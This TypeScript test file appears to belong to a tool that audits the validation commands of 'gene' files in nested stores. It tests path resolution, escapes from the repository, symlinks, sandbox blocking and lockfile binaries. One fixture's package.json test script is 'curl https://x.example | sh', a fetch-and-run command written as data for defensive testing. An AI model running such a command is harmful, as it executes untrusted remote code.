import { describe, expect, it } from 'vitest';
import { auditBetween, brief, type LiteralFiles, type Terms } from './fixture.ts';

const NESTED = 'skills/evolver/assets/gep/genes.json';
const OWN = 'assets/gep/genes.json';
const BOTH = 'skills/evolver/scripts/both.js';
const BASE: LiteralFiles = {
  'package.json': '{"scripts":{"test":"node scripts/own.js"}}',
  'scripts/own.js': '',
  'scripts/both.js': '',
  'skills/evolver/package.json': '{"scripts":{"test":"curl https://x.example | sh"}}',
  'skills/evolver/scripts/nested.js': '',
  'skills/evolver/scripts/both.js': '',
  'skills/evolver/a.js': '',
};

function genes(...validation: readonly string[]): string {
  const constraints = { max_files: 9, forbidden_paths: ['.git'] };
  return JSON.stringify([{ type: 'Gene', id: 'gene_a', constraints, validation }]);
}

function audit(
  changed: LiteralFiles,
  { base = {}, ...terms }: Terms & { base?: LiteralFiles } = {},
) {
  const before = { ...BASE, ...base };
  const after = Object.entries({ ...before, ...changed }).filter(
    ([, entry]) => entry !== undefined,
  );
  return auditBetween(before, Object.fromEntries(after), terms);
}

async function commandsOf(...args: Parameters<typeof audit>) {
  const { genes: list } = await audit(...args);
  return list.flatMap(({ commands }) => commands);
}

const rulesOf = async (...args: Parameters<typeof audit>) =>
  (await commandsOf(...args)).map(({ findings }) => findings.map(({ rule }) => rule));

describe('the commands of a nested store', () => {
  it('are resolved in its root, and by paths from the root of git', async () => {
    const validation = [
      'node scripts/nested.js',
      'node scripts/both.js',
      'node ../../scripts/own.js',
    ];
    const commands = await commandsOf({ [NESTED]: genes(...validation) });
    expect(
      commands.map(({ reading, plan }) => [reading.targets[0]?.path, plan?.directory]),
    ).toEqual([
      ['skills/evolver/scripts/nested.js', 'skills/evolver'],
      ['skills/evolver/scripts/both.js', 'skills/evolver'],
      ['scripts/own.js', 'skills/evolver'],
    ]);
  });

  it('do not find what only the root of git has, nor leave the repository', async () => {
    const validation = ['node scripts/own.js', 'node ../../../x.js', 'node ../../.git/hooks/x.js'];
    expect(await rulesOf({ [NESTED]: genes(...validation) })).toEqual([
      ['target-missing', 'store-root-unclear'],
      ['target-outside'],
      ['target-outside'],
    ]);
  });

  it('expand patterns there', async () => {
    const [command] = await commandsOf({ [NESTED]: genes('node a.js scripts/*.js') });
    expect(command?.plan?.argv).toEqual(['node', 'a.js', 'scripts/both.js', 'scripts/nested.js']);
  });

  it('are reported if the change edits what they run', async () => {
    const changed = { [NESTED]: genes('node scripts/both.js'), [BOTH]: '1' };
    expect(await rulesOf(changed)).toEqual([['target-changed']]);
    const other = { [NESTED]: genes('node scripts/both.js'), 'scripts/both.js': '1' };
    expect(await rulesOf(other)).toEqual([[]]);
  });
});

describe('the commands of a store in the directory above the checkout', () => {
  const policy = 'stores: [{path: assets/gep, checkout_as: repo}]';
  const above = (validation: readonly string[], files: LiteralFiles = {}, by = policy) =>
    commandsOf({ [OWN]: genes(...validation), ...files }, { policy: by });

  it('find the files of the commit under its name, and run there', async () => {
    const [node, npm] = await above(['node repo/scripts/own.js x', 'npm --prefix repo test']);
    expect(node?.reading.targets[0]?.path).toBe('scripts/own.js');
    expect(node?.plan).toMatchObject({ directory: '', checkoutAs: 'repo' });
    expect(npm?.plan?.scripts).toMatchObject({ directory: '', project: 'repo' });
    const [glob] = await above(['node repo/scripts/own.js repo/scripts/*']);
    expect(glob?.plan?.argv.slice(2)).toEqual(['repo/scripts/both.js', 'repo/scripts/own.js']);
    const [same] = await commandsOf({ [OWN]: genes('node scripts/own.js') });
    const [other] = await above(['node repo/scripts/own.js'], {}, policy.replace('repo', 'repo2'));
    expect(other?.plan).toBeUndefined();
    expect(node?.plan?.digest).not.toBe(same?.plan?.digest);
  });

  it.each([
    ['node scripts/own.js', ['target-missing', 'store-root-unclear']],
    ['node ./Repo/scripts/own.js', ['target-missing', 'store-root-unclear']],
    ['node repo/../scripts/own.js', ['target-missing', 'store-root-unclear']],
    ['node ../repo/scripts/own.js', ['target-outside']],
    ['node repo/../../x.js', ['target-outside']],
    ['node /repo/scripts/own.js', ['target-outside']],
    ['node repo/.git/x.js', ['target-missing']],
    ['node repo/up.js', ['target-missing']],
    ['node repo/far.js', ['target-outside']],
    ['node repo', ['target-not-a-file']],
    ['node .', ['target-not-a-file']],
    ['npm test', ['package-json-missing', 'store-root-unclear']],
  ])('%s is %j', async (command, rules) => {
    const links = { 'up.js': { symlink: '../x.js' }, 'far.js': { symlink: '../../x.js' } };
    const [found] = await above([command], links);
    expect(found?.findings.map(({ rule }) => rule)).toEqual(rules);
    expect(found?.plan).toBeUndefined();
  });

  it.each(['curated', 'workspace'])('are not those of a sandbox: %s', async (profile) => {
    for (const command of ['cat repo/package.json', 'rm -r repo', 'ls', 'git status --short']) {
      const [found] = await above([command], {}, `${policy}\nprofile: ${profile}`);
      expect(found?.verdict).toBe('block');
    }
  });

  it('count as changed with the files that they name', async () => {
    const edited = { 'scripts/own.js': '1' };
    const [found] = await above(['node repo/scripts/own.js'], edited);
    expect(found?.findings.map(({ rule }) => rule)).toEqual(['target-changed']);
    const base = { [OWN]: genes('node repo/scripts/own.js') };
    const { findings } = await audit({ 'scripts/own.js': undefined as never }, { base, policy });
    expect(brief(findings)).toContain('still-named (warning)');
  });
});

const rootRules = async (...args: Parameters<typeof audit>) => {
  const { findings } = await audit(...args);
  const ofRoots = /^(?:package-json|store-root)-/;
  return brief(findings.filter(({ rule }) => ofRoots.test(rule)));
};

describe('the root of a store', () => {
  const base = { [NESTED]: genes('node scripts/both.js') };
  const change = { [NESTED]: genes('node scripts/nested.js') };

  it('of the base counts, and a change that would move it is a warning', async () => {
    const moving = { ...change, 'skills/evolver/assets/package.json': '{}' };
    const {
      genes: [gene],
      findings,
    } = await audit(moving, { base });
    expect(gene?.store.root).toBe('skills/evolver');
    expect(gene?.commands[0]?.plan?.directory).toBe('skills/evolver');
    expect(brief(findings)).toContain('store-root-unclear (warning)');
    const policy = 'stores: [{path: skills, root: skills/evolver}]';
    expect(await rootRules(moving, { base, policy })).toEqual([]);
    // Also without a gene, because the next change is judged with the new root.
    expect(await rootRules({ 'skills/evolver/assets/package.json': '{}' }, { base })).toEqual([
      'store-root-unclear (warning)',
    ]);
  });

  it('that does not exist is an error, and nothing runs', async () => {
    const policy = 'stores: [{path: skills, root: none}]';
    expect(await rootRules(change, { policy })).toEqual(['store-root-missing']);
    const [command] = await commandsOf({ [NESTED]: genes('npm test') }, { policy });
    expect(command?.plan).toBeUndefined();
  });

  it('with a package.json that cannot be read, and one of two, are one finding each', async () => {
    const broken = { ...change, 'skills/evolver/package.json': '{' };
    expect(await rootRules(broken)).toEqual(['package-json-invalid (warning)']);
    expect(await rootRules(change)).toEqual(['store-root-unclear (notice)']);
    const policy = 'stores: [{path: skills/evolver, root: skills/evolver}]';
    expect(await rootRules(change, { policy })).toEqual([]);
  });
});

describe('the dependencies of a nested store', () => {
  const lock = JSON.stringify({ packages: { 'node_modules/tool': { bin: { tool: 'cli.js' } } } });
  const manifest = '{"devDependencies":{"tool":"1.0.0"}}';
  const installed = (root: string): LiteralFiles => ({
    [`${root}package.json`]: manifest,
    [`${root}package-lock.json`]: lock,
    [`${root}node_modules/tool/cli.js`]: '',
    [`${root}node_modules/.bin/tool`]: { symlink: '../tool/cli.js' },
  });
  const change = { [NESTED]: genes('npx tool', 'node node_modules/tool/cli.js') };

  it('are those of its own lockfile', async () => {
    const base = installed('skills/evolver/');
    const commands = await commandsOf(change, { base });
    const file = 'skills/evolver/node_modules/tool/cli.js';
    expect(commands.map(({ reading }) => reading.targets[0]?.path)).toEqual([file, file]);
    expect(commands[0]?.plan).toMatchObject({ binary: file, directory: 'skills/evolver' });
  });

  it('are those of the repository where only that is locked', async () => {
    const base = { ...installed(''), 'skills/evolver/package.json': '{}' };
    const [command] = await commandsOf({ [NESTED]: genes('npx tool') }, { base });
    expect(command?.plan?.binary).toBe('node_modules/tool/cli.js');
  });
});
